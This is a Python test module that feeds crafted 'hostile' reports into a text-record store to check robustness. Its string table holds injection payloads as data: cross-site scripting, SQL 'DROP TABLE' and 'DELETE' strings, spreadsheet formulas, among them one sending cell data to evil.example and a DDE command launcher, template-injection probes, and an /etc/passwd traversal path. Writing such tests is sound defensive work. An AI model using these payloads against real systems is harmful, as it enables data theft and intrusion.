"""Reports that try to be more than text, each beside a record of others on which it must have no effect."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from pathlib import Path

from detente.model import Prop, Report, Sort
from detente.record import Store
from detente.resolve import resolve
from tests.talks import METHOD, Telling

OWN = "hostile-"
"""How the name of a hostile report begins."""
NAMES = 10_000
STRINGS = {
    "script tags": (
        "<script>document.title='taken'</script>",
        "</textarea></title></script></div><svg/onload=alert(1)>",
        "\" onmouseover=alert(1) x='",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)//",
        "&lt;b&gt;&#x3c;i>&amp;amp;",
    ),
    "right-to-left overrides and unseen signs": (
        "\u202edetnioppa\u202c was named",
        "\u2066a\u2067b\u2069",
        "Os\u200blo \u2060\ufeffand\u00ad Kigali",
        "Doha\U000e0041\U000e007f",
    ),
    "SQL": (
        "'; DROP TABLE report; --",
        '" OR 1=1; DELETE FROM statement WHERE ""="',
        'text: "a* NEAR(b) AND NOT (c OR',
    ),
    "formulas": (
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "＝1+1",
    ),
    "templates": (
        "{{ 7*7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
        "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s %s",
    ),
    "what drives terminals and files": (
        "red \x1b[31m alert \x1b]0;taken\x07",
        "../../../../etc/passwd\\..\\x",
        "nul \x00 and \x7f and \x9b31m",
    ),
}
"""Words that are harmless as words, by what they try."""
Told = tuple[Report, list[Telling]]


def tell(words: str, number: int) -> Told:
    """A report in which every value that can be is these words."""
    text = f"There {words} met.\nThey said: {words}\nThree were killed, they said.\n"
    report = Report.of_text(text, f"{OWN}{number}.txt", published="2031-05-04")
    met = Telling(report, Sort.EVENT, "met", text.split("\n", maxsplit=1)[0])
    met.says(Prop.KIND, "meeting", "met").says(Prop.STATUS, "occurred", "met")
    for prop in (Prop.PARTY, Prop.PLACE):
        met.says(prop, words, words, said_by=words, note=words)
    said = Telling(report, Sort.CLAIM, "said", text.split("\n")[1])
    said.says(Prop.SPEAKER, words, words).says(Prop.ACT, "assert", "said").says(Prop.CONTENT, words, words)
    said.says(Prop.ADDRESSEE, words, words)
    return report, [met, said]


def _tell_each(every: tuple[str, ...]) -> list[Told]:
    return [tell(words, number) for number, words in enumerate(every)]


def tell_names() -> Told:
    """A report of a meeting of ten thousand people who are not there."""
    people = [f"Ula{number:05} Xi" for number in range(NAMES)]
    text = f"Present were {', '.join(people)} and nobody else; they met.\n"
    report = Report.of_text(text, f"{OWN}names.txt", published="2031-05-04")
    met = Telling(report, Sort.EVENT, "met", text[:-1])
    met.says(Prop.KIND, "meeting", "met").says(Prop.STATUS, "occurred", "met")
    for person in people:
        met.says(Prop.PARTY, person, person)
    return report, [met]


def tell_long_line() -> Told:
    """A report of one line of a megabyte, with a telling at its end."""
    text = "x" * 1_000_000 + " Ula and Xi met."
    report = Report.of_text(text, f"{OWN}line.txt", published="2031-05-04")
    met = Telling(report, Sort.EVENT, "met", text)
    met.says(Prop.KIND, "meeting", "met").says(Prop.STATUS, "occurred", "met")
    met.says(Prop.PARTY, "Ula", "Ula").says(Prop.PARTY, "Xi", "Xi").says(Prop.PLACE, text[:-16], text[:-16])
    return report, [met]


ATTACKS: dict[str, Callable[[], list[Told]]] = {
    **{what: partial(_tell_each, every) for what, every in STRINGS.items()},
    "ten thousand names": lambda: [tell_names()],
    "a line of a megabyte": lambda: [tell_long_line()],
}


def put_in(path: Path, what: str) -> list[Report]:
    """Put hostile reports into a record that is there, and join it."""
    every = ATTACKS[what]()
    with Store.open(path) as store:
        for report, told in every:
            store.add_report(report, report.text.encode(), at="2031-05-05T00:00:00+00:00")
            store.save_reading(report, METHOD, [t.mention for t in told], [s for t in told for s in t.statements])
        joined = resolve(store.mentions(), store.statements(), store.decisions())
        store.save_clusters(store.input_fingerprint(), joined.judgements, joined.clusters)
    return [report for report, _ in every]
